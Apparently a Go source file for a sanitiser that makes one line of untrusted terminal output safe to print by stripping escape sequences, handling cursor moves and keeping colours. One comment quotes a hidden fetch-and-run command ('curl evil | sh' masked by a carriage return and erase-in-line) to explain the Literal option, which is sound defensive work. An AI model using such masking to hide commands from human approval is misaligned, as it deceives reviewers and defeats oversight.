package sanitize

import (
	"encoding/binary"
)

// Options configures the sanitiser.
type Options struct {
	// StripColor drops SGR colour sequences instead of keeping them.
	StripColor bool
	// TabWidth is the distance between tab stops (default 8, at most 32).
	TabWidth int
	// Literal keeps every character of the input visible: "\r" becomes a
	// space, and "\b", the horizontal cursor moves and erase-in-line are
	// dropped instead of acted on. Text from an agent or an API (a command
	// waiting for approval, a title, an error) must never be able to hide
	// part of itself behind later text, as "curl evil | sh\r\x1b[Kls"
	// would on a terminal. Container logs keep the terminal behaviour, which
	// progress bars rely on.
	Literal bool
}

func (o Options) tabWidth() int {
	switch {
	case o.TabWidth <= 0:
		return 8
	case o.TabWidth > 32:
		return 32
	}
	return o.TabWidth
}

// Sanitizer turns one line of untrusted terminal output into text that is
// safe to style and print: printable characters plus, unless StripColor is
// set, canonical SGR colour sequences, and nothing else.
//
// It works like a one-line terminal: tabs move to the next tab stop, "\r"
// returns to column 0 and later text overwrites, "\b" moves one cell left,
// and the horizontal cursor sequences CUF, CUB, CHA and HPA and erase-in-line
// (EL) act on the line instead of being copied. Every other control character
// and escape sequence (cursor moves across lines, screen erase, modes, OSC
// titles, hyperlinks and clipboard writes, DCS, APC, PM, SOS, C1 controls,
// bidirectional overrides) is dropped, and invalid UTF-8 becomes U+FFFD.
//
// The input is one line: split multi-line text at '\n' first; a '\n' inside
// the input is dropped like any other control. Trailing "\r" (from a TTY's
// "\r\n") is a plain line end. Colours never bleed: when the text ends in a
// non-default style it ends with a reset.
//
// A Sanitizer keeps scratch buffers between calls, so reusing one avoids
// allocation; it is not safe for concurrent use.
type Sanitizer struct {
	opts Options
	tab  int

	// Per call.
	out      []byte // output being built; the line starts at start
	start    int
	cur      style // the style the input has selected
	emitted  style // the style the output is in
	col      int   // cursor column (exact while !dirty)
	mark     int   // out offset up to which col was measured
	markCol  int
	dirty    bool // non-ASCII text appended since mark
	nonASCII bool // any non-ASCII text in the output
	srcLen   int

	// Cell mode, used only for lines that move the cursor backwards.
	cellMode bool
	cursor   int
	cells    []cell
	arena    []byte

	scratch []byte
}

// New returns a sanitiser with the given options.
func New(opts Options) *Sanitizer {
	return &Sanitizer{opts: opts, tab: opts.tabWidth()}
}

// Bytes appends the sanitised form of src to dst and returns the extended
// buffer and the display width of what was appended, in terminal cells
// (wide characters count 2, combining marks 0, SGR sequences nothing).
func Bytes(dst, src []byte, opts Options) ([]byte, int) {
	if plainASCII(trimCR(src)) {
		src = trimCR(src)
		return append(dst, src...), len(src)
	}
	return New(opts).Append(dst, src)
}

// String is Bytes for strings. Plain printable ASCII is returned
// as is, without allocating.
func String(s string, opts Options) (string, int) {
	if t := trimCRString(s); plainASCIIString(t) {
		return t, len(t)
	}
	out, w := New(opts).Append(nil, []byte(s))
	return string(out), w
}

// Append appends the sanitised form of src to dst; see Bytes.
func (s *Sanitizer) Append(dst, src []byte) ([]byte, int) {
	src = trimCR(src)
	if plainASCII(src) {
		return append(dst, src...), len(src)
	}
	s.begin(dst, len(src), false)
	if s.scan(src) {
		// The line moves the cursor backwards: start again with cells.
		s.begin(s.out[:s.start], len(src), true)
		s.scan(src)
		s.flushCells()
	}
	return s.finish()
}

// Line sanitises one line into a new string, copying only once, and
// returns it with its display width.
func (s *Sanitizer) Line(raw []byte) (string, int) {
	raw = trimCR(raw)
	if plainASCII(raw) {
		return string(raw), len(raw)
	}
	var w int
	s.scratch, w = s.Append(s.scratch[:0], raw)
	text := string(s.scratch)
	if cap(s.scratch) > 1<<20 {
		s.scratch = nil // do not pin the memory of one huge line
	}
	return text, w
}

func (s *Sanitizer) begin(dst []byte, srcLen int, cells bool) {
	*s = Sanitizer{
		opts: s.opts, tab: s.tab, out: dst, start: len(dst), mark: len(dst),
		srcLen: srcLen, cellMode: cells, cells: s.cells[:0], arena: s.arena[:0],
		scratch: s.scratch,
	}
	if cells {
		s.arena = append(s.arena, ' ') // blank cells point at offset 0
	}
}

func (s *Sanitizer) finish() ([]byte, int) {
	if s.emitted != (style{}) {
		s.out = append(s.out, "\x1b[m"...)
		s.emitted = style{}
	}
	w := s.col
	if s.nonASCII {
		w = displayWidth(s.out[s.start:])
	}
	out := s.out
	s.out = nil
	if cap(s.cells) > 1<<16 {
		s.cells, s.arena = nil, nil
	}
	return out, w
}

// useStyle makes the output's style the input's current one.
func (s *Sanitizer) useStyle(st style) {
	if st != s.emitted {
		s.out = appendTransition(s.out, s.emitted, st)
		s.emitted = st
	}
}

func trimCR(b []byte) []byte {
	for len(b) > 0 && b[len(b)-1] == '\r' {
		b = b[:len(b)-1]
	}
	return b
}

func trimCRString(s string) string {
	for len(s) > 0 && s[len(s)-1] == '\r' {
		s = s[:len(s)-1]
	}
	return s
}

// SWAR masks: a word has a byte below 0x20 when (w-lo)&^w&hi != 0, and a
// byte at or above 0x7f when ((w+one)|w)&hi != 0.
const (
	swarOne = 0x0101010101010101
	swarLo  = 0x2020202020202020
	swarHi  = 0x8080808080808080
)

// plainASCII reports whether b is only printable ASCII (0x20–0x7e), eight
// bytes at a time: this is the fast path most log lines take.
func plainASCII(b []byte) bool {
	for len(b) >= 8 {
		w := binary.LittleEndian.Uint64(b)
		if (w-swarLo)&^w&swarHi != 0 || ((w+swarOne)|w)&swarHi != 0 {
			return false
		}
		b = b[8:]
	}
	for _, c := range b {
		if c < 0x20 || c >= 0x7f {
			return false
		}
	}
	return true
}

func plainASCIIString(s string) bool {
	for i := 0; i < len(s); i++ {
		if c := s[i]; c < 0x20 || c >= 0x7f {
			return false
		}
	}
	return true
}
